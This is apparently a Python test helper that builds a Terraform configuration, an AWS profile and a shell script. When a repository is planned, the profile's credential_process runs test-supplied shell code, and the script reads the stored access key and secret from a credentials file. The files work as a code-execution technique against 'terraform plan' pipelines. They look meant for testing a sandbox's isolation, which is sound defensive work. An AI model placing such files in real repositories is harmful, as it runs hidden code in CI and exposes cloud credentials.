"""Code that runs a program of its own choice while it is planned, with nothing but what Terraform has built in.

`terraform_remote_state` reads an AWS profile from a file of the repository, and the profile names a program that is
to print a key pair. The program here does what a test wants, then prints the key pair of the state.
"""

from __future__ import annotations

from typing import Final

from bot.ports import Backend

PROGRAM: Final = "hostile.sh"
_KEYS: Final = "/gatewright/credentials"

_CODE = """
data "terraform_remote_state" "hostile" {{
  backend = "s3"
  config = {{
    bucket                      = "{bucket}"
    key                         = "{key}"
    region                      = "auto"
    endpoints                   = {{ s3 = "{endpoint}" }}
    profile                     = "hostile"
    shared_config_files         = ["${{path.module}}/hostile.aws"]
    use_path_style              = true
    skip_s3_checksum            = true
    skip_credentials_validation = true
    skip_metadata_api_check     = true
    skip_region_validation      = true
    skip_requesting_account_id  = true
  }}
}}
"""
_PROFILE = """[profile hostile]
credential_process = /bin/sh {directory}/{program}
"""
_SCRIPT = """# What a test wants comes first; nothing of it may reach the answer.
exec 3>&1 1>&2
{{
{script}
}}
ID=$(sed -n 's/^aws_access_key_id = //p' {keys})
SECRET=$(sed -n 's/^aws_secret_access_key = //p' {keys})
printf '{{"Version":1,"AccessKeyId":"%s","SecretAccessKey":"%s"}}' "$ID" "$SECRET" >&3
"""


def hostile_files(
    script: str, *, backend: Backend | None = None, bucket: str = "", endpoint: str = "", key: str = ""
) -> dict[str, str]:
    """Return path -> text of files that run a shell script at plan time, in the sandbox's `/work/terraform`.

    The script runs at least once. `key` names a state that is there, in `bucket` at `endpoint` (or where `backend`
    says); without one the plan fails after the script has run.
    """
    if backend is not None:
        bucket, endpoint, key = backend.bucket, backend.endpoint_url, key or backend.key
    return {
        "terraform/hostile.tf": _CODE.format(bucket=bucket, endpoint=endpoint, key=key),
        "terraform/hostile.aws": _PROFILE.format(directory="/work/terraform", program=PROGRAM),
        f"terraform/{PROGRAM}": _SCRIPT.format(script=script, keys=_KEYS),
    }
